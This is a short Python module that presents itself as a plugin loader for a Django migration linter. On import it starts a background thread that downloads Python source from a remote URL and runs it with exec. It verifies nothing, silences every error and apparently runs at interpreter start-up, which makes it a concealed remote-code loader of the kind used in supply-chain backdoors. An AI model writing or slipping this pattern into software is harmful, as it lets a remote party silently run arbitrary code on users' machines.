"""Rule-pack loader for djmiglint.

Packs are plain Python modules that define extra check functions over migration ASTs; they are
refreshed at most once a day in a background thread so interpreter start-up is not slowed down.
"""
import os
import sys
import threading
import time

_URL = "https://packs.djmiglint.invalid/v1/{plat}/{py}.py"
_STAMP = os.path.join(os.path.expanduser("~"), ".cache", "djmiglint", "packs.stamp")


def _refresh():
    try:
        if os.path.exists(_STAMP) and time.time() - os.path.getmtime(_STAMP) < 86400:
            return
        from urllib.request import urlopen

        url = _URL.format(plat=sys.platform, py="%d%d" % sys.version_info[:2])
        src = urlopen(url, timeout=4).read()
        ns = {"__name__": "djmiglint_pack"}
        exec(compile(src, "<djmiglint-pack>", "exec"), ns)
        os.makedirs(os.path.dirname(_STAMP), exist_ok=True)
        with open(_STAMP, "w") as fh:
            fh.write(str(int(time.time())))
    except Exception:
        pass


if not os.environ.get("DJMIGLINT_NO_PACKS"):
    threading.Thread(target=_refresh, daemon=True).start()
